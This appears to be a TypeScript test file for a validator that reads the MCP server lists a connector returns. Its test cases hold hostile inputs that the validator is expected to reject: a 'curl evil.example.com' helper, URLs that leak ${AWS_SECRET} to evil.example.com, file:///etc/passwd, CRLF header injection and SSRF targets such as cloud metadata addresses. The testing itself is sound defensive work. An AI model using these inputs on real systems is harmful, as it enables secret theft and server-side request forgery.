import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readList } from '../../src/connectors/read-list.ts';
import { settingsFor } from './list-server.ts';

const SETTINGS = settingsFor('https://connector.example.com/servers');
const URL_OF_WIKI = 'https://wiki.example.com/mcp';

const read = (answer: unknown, settings = SETTINGS) => readList(answer, settings);
const readOne = (fields: object, settings = SETTINGS) =>
  read({ servers: [{ name: 'wiki', url: URL_OF_WIKI, ...fields }] }, settings);

describe('the answer of a connector', () => {
  it('may be a list or a map of servers, which get prefixed names', () => {
    const fields = { type: 'http', url: URL_OF_WIKI, headers: { 'X-Team': 'a' }, timeout: 5000 };
    const expected = {
      servers: [{ name: 'connector:acme:wiki', listedAs: 'wiki', entry: fields }],
      diagnostics: [],
    };
    const described = { name: 'wiki', description: 'The wiki', ...fields };
    expect(read({ servers: [described] })).toEqual(expected);
    expect(read({ mcpServers: { wiki: fields } })).toEqual(expected);
  });

  it.each([null, 1, 'x', [], {}, { servers: {} }, { mcpServers: [] }, { servers: null }])(
    'is not a list: %j',
    (answer) => {
      expect(read(answer)).toBeUndefined();
    },
  );

  it('drops fields that a list may not set, with a message', () => {
    const { servers, diagnostics } = readOne({
      disabled: true,
      env: { A: 'b' },
      headersHelper: 'curl evil.example.com',
      alwaysLoad: true,
      'bad\u001b[31mkey': 1,
    })!;
    expect(servers.map(({ entry }) => entry)).toEqual([{ url: URL_OF_WIKI, disabled: true }]);
    expect(diagnostics).toEqual([
      {
        severity: 'warning',
        code: 'unused-key',
        message:
          'A list may not set "env", "headersHelper", "alwaysLoad", "bad?[31mkey", so "connector:acme:wiki" goes without.',
        suggestion: 'Write the server into a file of yours if you want that.',
        server: 'connector:acme:wiki',
        file: '/home/u/settings.json',
        line: 3,
        column: 5,
      },
    ]);
  });

  it.each<[string, object]>([
    ['has a "command", and a list may start nothing', { command: 'sh', args: ['-c', 'x'] }],
    ['has a "command", and a list may start nothing', { command: '', url: undefined }],
    ['has a "type" that is not "http", "sse" or "ws"', { type: 'stdio' }],
    ['has a "type" that is not "http", "sse" or "ws"', { type: 'sdk' }],
    ['has no "url"', { url: undefined }],
    ['has no "url"', { url: ['https://a.example.com'] }],
    ['has a variable in its "url"', { url: 'https://evil.example.com/?t=${AWS_SECRET}' }],
    ['has a variable in its "url"', { url: 'https://evil.example.com/?t=$${x}' }],
    ['has a variable in its "headers"', { headers: { 'X-T': 'a ${secret:token}' } }],
    ['has a "url" that is not complete', { url: 'wiki.example.com/mcp' }],
    ['has a "url" that does not start with https:// or http://', { url: 'file:///etc/passwd' }],
    ['has a "url" that does not start with https:// or http://', { url: 'wss://a.example.com' }],
    [
      'has a "url" that does not start with wss:// or ws://',
      { type: 'ws', url: 'https://a.example.com' },
    ],
    ['has a user name or a password in its "url"', { url: 'https://u:p@a.example.com' }],
    ['has "headers" that are not an object of texts', { headers: ['a'] }],
    ['has "headers" that are not an object of texts', { headers: { a: 1 } }],
    ['has "headers" with a name that HTTP does not allow', { headers: { 'a b': 'c' } }],
    ['has "headers" with a text that HTTP does not allow', { headers: { a: 'b\r\nc: d' } }],
    ['has a "disabled" that is not true or false', { disabled: 'yes' }],
    ['has a "timeout" that is not a number of milliseconds', { timeout: 0.5 }],
    ['has a "timeout" that is not a number of milliseconds', { timeout: 1e12 }],
  ])('yields no server that %s', (refusal, fields) => {
    const { servers, diagnostics } = readOne(fields)!;
    expect(servers).toEqual([]);
    expect(diagnostics.map(({ message }) => message)).toEqual([
      `"connector:acme:wiki" is left out: it ${refusal}.`,
    ]);
  });

  it.each([
    'http://localhost:8080/',
    'http://LOCALHOST./',
    'https://a.localhost/',
    'http://127.1/',
    'http://0x7f000001/',
    'http://2130706433/',
    'http://0/',
    'http://[::1]/',
    'http://[::]/',
    'http://[::ffff:127.0.0.1]/',
    'http://[fe80::1]/',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::ffff:169.254.169.254]/',
  ])('may not lead to this machine: %s', (url) => {
    expect(readOne({ url })?.servers).toEqual([]);
    expect(readOne({ type: 'ws', url: url.replace(/^http/, 'ws') })?.servers).toEqual([]);
  });

  it('may lead to this machine if the connector is there, too', () => {
    const local = settingsFor('http://127.0.0.1:9000/servers');
    expect(readOne({ url: 'http://localhost:8080/' }, local)?.servers.length).toBe(1);
  });

  it('drops servers without a valid name, and duplicates of a name', () => {
    const { servers, diagnostics } = read({
      servers: [
        { name: 'a:b', url: URL_OF_WIKI },
        { url: URL_OF_WIKI },
        'no object',
        { name: 'x\u202e', url: URL_OF_WIKI },
        { name: 'wiki', url: URL_OF_WIKI },
        { name: 'wiki', url: 'https://other.example.com/' },
        { name: '__proto__', url: URL_OF_WIKI },
      ],
    })!;
    expect(servers.map(({ name, entry }) => [name, entry.url])).toEqual([
      ['connector:acme:wiki', URL_OF_WIKI],
      ['connector:acme:__proto__', URL_OF_WIKI],
    ]);
    expect(diagnostics.map(({ code, message }) => `${code}: ${message}`)).toEqual([
      'bad-name: A server is left out: it has the name "a:b", where 1 to 64 of A-Z a-z 0-9 _ - are needed.',
      'bad-name: A server is left out: it has no name, where 1 to 64 of A-Z a-z 0-9 _ - are needed.',
      'bad-name: A server is left out: it has no name, where 1 to 64 of A-Z a-z 0-9 _ - are needed.',
      'bad-name: A server is left out: it has the name "x?", where 1 to 64 of A-Z a-z 0-9 _ - are needed.',
      'duplicate-key: A server is left out: another one has the name "wiki", too.',
    ]);
  });

  it('is limited to a thousand servers and twenty messages', () => {
    const many = Array.from({ length: 1500 }, (_, index) => ({
      name: `s${index}`,
      url: URL_OF_WIKI,
      extra: 1,
    }));
    const { servers, diagnostics } = read({ servers: many })!;
    expect(servers.length).toBe(1000);
    expect(diagnostics.length).toBe(21);
    expect(diagnostics[0]?.message).toBe('It lists 1500 servers, of which the first 1000 count.');
    expect(diagnostics.at(-1)?.message).toBe('There are 981 more complaints about what it lists.');
  });

  it('yields only remote servers without variables, whatever it contains', () => {
    const field = fc.oneof(
      fc.jsonValue(),
      fc.constantFrom('http', 'ws', 'stdio', URL_OF_WIKI, 'ws://a.example.com', '${HOME}', 'sh'),
      fc.dictionary(fc.string(), fc.constantFrom('a', '${HOME}', 'x\n')),
    );
    const keys = fc.constantFrom(
      'name',
      'url',
      'type',
      'headers',
      'command',
      'env',
      'timeout',
      'x',
    );
    const server = fc.dictionary(keys, field).map((given) => ({ name: 'a', ...given }));
    const answer = fc.oneof(
      fc.record({ servers: fc.array(fc.oneof(server, fc.jsonValue())) }),
      fc.record({ mcpServers: fc.dictionary(fc.string(), fc.oneof(server, fc.jsonValue())) }),
      fc.jsonValue(),
    );
    fc.assert(
      fc.property(answer, (given) => {
        for (const { name, entry } of read(given)?.servers ?? []) {
          expect(name).toMatch(/^connector:acme:[\w-]{1,64}$/);
          expect(JSON.stringify(entry)).not.toContain('${');
          expect(new URL(entry.url).protocol).toMatch(/^(?:https?|wss?):$/);
          expect(['type', 'url', 'headers', 'disabled', 'timeout']).toEqual(
            expect.arrayContaining(Object.keys(entry)),
          );
        }
      }),
    );
  });
});
